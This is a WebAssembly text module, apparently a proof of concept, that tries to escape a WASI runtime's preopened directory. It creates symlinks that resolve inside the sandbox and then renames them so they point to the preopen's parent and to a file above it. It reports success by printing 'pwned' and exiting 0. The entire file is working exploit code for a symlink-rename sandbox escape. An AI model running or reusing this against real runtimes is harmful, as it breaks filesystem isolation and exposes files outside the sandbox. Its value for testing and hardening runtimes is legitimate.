;; relink.wat - links out of the preopen (fd 3) made of links that each stay
;; inside when made, then moved: sub/x -> ../victim.txt is inside, renamed to
;; out.log it points one level above the preopen; sub/d -> .. is the preopen,
;; renamed over the directory d it is the preopen's parent.  Then prints
;; "pwned" on stdout and stderr.  Exit code 0: every step worked.
(module
  (import "wasi_snapshot_preview1" "path_create_directory"
    (func $mkdir (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_remove_directory"
    (func $rmdir (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_symlink"
    (func $symlink (param i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_rename"
    (func $rename (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write"
    (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "proc_exit" (func $proc_exit (param i32)))
  (memory (export "memory") 1)
  (data (i32.const 100) "sub")
  (data (i32.const 110) "../victim.txt")
  (data (i32.const 130) "sub/x")
  (data (i32.const 140) "out.log")
  (data (i32.const 150) "..")
  (data (i32.const 160) "sub/d")
  (data (i32.const 170) "d")
  (data (i32.const 180) "pwned\n")
  (func (export "_start") (local $e i32)
    (local.set $e (call $mkdir (i32.const 3) (i32.const 100) (i32.const 3)))
    (local.set $e (i32.or (local.get $e)
      (call $symlink (i32.const 110) (i32.const 13) (i32.const 3) (i32.const 130) (i32.const 5))))
    (local.set $e (i32.or (local.get $e)
      (call $rename (i32.const 3) (i32.const 130) (i32.const 5) (i32.const 3) (i32.const 140) (i32.const 7))))
    (local.set $e (i32.or (local.get $e)
      (call $symlink (i32.const 150) (i32.const 2) (i32.const 3) (i32.const 160) (i32.const 5))))
    (local.set $e (i32.or (local.get $e) (call $rmdir (i32.const 3) (i32.const 170) (i32.const 1))))
    (local.set $e (i32.or (local.get $e)
      (call $rename (i32.const 3) (i32.const 160) (i32.const 5) (i32.const 3) (i32.const 170) (i32.const 1))))
    (i32.store (i32.const 0) (i32.const 180))
    (i32.store (i32.const 4) (i32.const 6))
    (drop (call $fd_write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8)))
    (drop (call $fd_write (i32.const 2) (i32.const 0) (i32.const 1) (i32.const 8)))
    (call $proc_exit (local.get $e))))
